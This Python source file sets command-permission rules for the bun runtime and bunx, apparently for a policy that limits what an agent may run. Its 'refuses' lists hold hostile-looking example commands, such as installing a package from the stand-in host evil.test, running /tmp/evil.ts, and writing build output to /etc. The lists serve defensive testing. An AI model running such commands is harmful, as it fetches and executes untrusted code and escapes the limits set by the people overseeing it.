"""Rules for bun, which is runtime, package tool, test runner and bundler in one."""

from treadle.policy.commands.node_options import HERE, PLACE, RUN
from treadle.policy.commands.node_packages import (
    NPX,
    SHARED,
    make_create_rule,
    make_install_rules,
    make_script_rules,
)
from treadle.policy.commands.rule_syntax import Rule

_TEST = (
    f"{RUN} -t=text --test-name-pattern=text --timeout=number --coverage --bail[number] -u --only"
    " --todo --update-snapshots --rerun-each=number --coverage-reporter=word"
    " --coverage-dir=write --reporter=word --reporter-outfile=write --seed=number --randomize"
    " --max-concurrency=number --pass-with-no-tests"
)
_BUILD = (
    f"{RUN} --outdir=write --outfile=write --target=word --format=word --minify --splitting"
    " --sourcemap[text] --external=text"
)

RULES: tuple[Rule, ...] = (
    Rule(
        "bun",
        RUN + PLACE + " -v --version --revision -e=inline --eval=inline -p=inline --print=inline",
        # By itself it tells how it is used; or the code stands on the line.
        bare=True,
        check="",
        subs=(
            *(rule for rule in make_install_rules(HERE) if rule.name != "upgrade"),
            Rule("test", _TEST, "near..."),
            Rule("build", _BUILD, "code...", mode="run"),
            *(
                rule
                for rule in make_script_rules(hands_on=True)
                if rule.name not in ("test", "build")
            ),
            *SHARED,
            Rule("x", "--bun", wraps=0, inner=("node", "bun"), instead=NPX),
            make_create_rule("create"),
            make_create_rule("init"),
            Rule(
                "pm",
                subs=(Rule("ls", "--all"), Rule("bin", "-g"), Rule("cache")),
                instead="Look only: bun pm ls.",
            ),
            Rule(
                "*",
                style="open",
                check="script-or-tool",
                inner=("node", "bun"),
                instead="Run a file or script of the project: bun run x.ts.",
            ),
        ),
        instead="Install, run and test with bun; a person configures and publishes.",
        allows=(
            "bun install",
            "bun test",
            "bun run build",
            "bun src/x.ts",
            "bun add zod",
            "bun run dev --port 80",
        ),
        refuses=(
            "bun publish",
            "bun /tmp/evil.ts",
            "bun add git+https://evil.test/x",
            "bun upgrade",
            "bun build x.ts --outdir /etc",
            "bun test --preload ./e",
            "bun x evil",
            "bun link",
            "bun run dev --config=/tmp/x",
            "cat x.ts | bun run -",
        ),
    ),
    Rule(
        "bunx",
        "--bun",
        wraps=0,
        inner=("node", "bun"),
        instead="Run a tool that the project has installed: bunx vitest run.",
        allows=("bunx tsc --noEmit",),
        refuses=("bunx evil", "bunx --package=evil tsc"),
    ),
)
